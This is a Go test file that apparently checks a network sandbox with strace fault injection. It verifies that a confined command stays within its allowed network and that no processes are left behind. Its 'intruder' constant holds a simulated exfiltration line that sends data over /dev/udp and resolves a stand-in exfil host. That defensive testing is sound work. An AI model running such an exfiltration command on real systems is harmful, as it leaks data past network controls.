//go:build adversary

package tests

import (
	"fmt"
	"maps"
	"os"
	"slices"
	"strings"
	"testing"
)

// intruder tries what a run keeps it from, and then asks for what it may.
const intruder = `printf '\5exfil\4corp\4test' >/dev/udp/10.9.8.1/9999; getent ahostsv4 exfil.corp.test; exec getent ahostsv4 a.corp.test`

// launch starts a run below strace, and wants it to end, with nobody left. It returns how it ended, and what strace has written.
func (o *outside) launch(options ...string) (got result, trace string) {
	t := o.t
	t.Helper()
	file := o.path("launch")
	r, w, err := os.Pipe()
	must(t, err)
	cmd := o.enter(slices.Concat([]string{"strace", "-f", "-qq", "-o", file}, options, []string{
		binary, "--allow", "a.corp.test", "--upstream", "udp://127.0.0.1", "--", "bash", "-c", intruder,
	})...)
	cmd.ExtraFiles = []*os.File{w}
	got = finish(t, cmd)
	must(t, w.Close())
	(&tree{cmd, r}).gone(t)
	must(t, r.Close())
	text, err := os.ReadFile(file)
	must(t, err)
	return got, string(text)
}

// Each system call of a launch, failing in each of its processes, has the run work all the same, or end with an error. The command never runs outside of
// its network, nobody hangs, and nobody is left.
func TestAdversaryInjectedErrorsOfTheLaunch(t *testing.T) {
	t.Parallel()
	o := newOutside(t)
	got, trace := o.launch()
	if !strings.HasPrefix(got.stdout, "192.0.2.1 ") || got.status != 0 {
		t.Fatalf("unhurt: %+v", got)
	}
	seen := map[string]bool{}
	for _, m := range call.FindAllStringSubmatch(trace, -1) {
		seen[m[1]] = true
	}
	for _, name := range []string{"unshare", "seccomp", "prctl", "pidfd_getfd", "clone"} {
		if !seen[name] {
			t.Errorf("a launch without %s: %v", name, slices.Sorted(maps.Keys(seen)))
		}
	}
	maps.DeleteFunc(seen, func(name string, _ bool) bool { return slices.Contains(unfailing, name) })
	ways := []string{"error=ENOMEM:when=1", "error=EPERM:when=1", "error=EMFILE:when=2", "error=EINTR:when=1"}
	if long() {
		ways = append(ways, "error=ENOMEM:when=2", "error=ENOMEM:when=3", "error=EPERM:when=2", "error=EPERM:when=1+", "error=ENOSYS:when=1+", "signal=SIGKILL:when=1")
	}
	met, failed, tried := 0, 0, 0
	for i, name := range slices.Sorted(maps.Keys(seen)) {
		if os.Geteuid() == 0 && !long() && i%3 != 0 {
			continue // root's launch makes the same calls but for few: a user's tries them all
		}
		tried++
		for _, way := range some(ways, i) {
			got, trace := o.launch("-e", "trace="+name, "-e", fmt.Sprintf("inject=%s:%s", name, way))
			if strings.Contains(trace, "(INJECTED)") || strings.Contains(trace, "killed by") {
				met++
			}
			if got.status != 0 {
				failed++
			} else if !strings.HasPrefix(got.stdout, "192.0.2.1 ") {
				t.Errorf("%s:%s: a success without an answer: %+v", name, way, got)
			}
		}
	}
	if met < tried/2 || failed == 0 {
		t.Errorf("%d injections met a call, %d runs failed", met, failed)
	}
	t.Logf("%d calls of %d: %d injections met one, %d runs failed", tried, len(seen), met, failed)
	o.silent(t)
}
